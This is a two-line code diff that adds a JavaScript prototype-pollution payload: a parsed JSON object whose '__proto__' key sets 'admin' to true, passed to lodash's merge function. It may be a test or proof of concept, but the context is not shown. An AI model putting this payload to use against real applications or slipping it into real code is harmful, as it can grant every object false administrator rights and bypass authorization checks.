@@ -1,0 +1,2 @@
+const payload = JSON.parse('{"__proto__":{"admin":true}}');
+_.merge({}, payload);
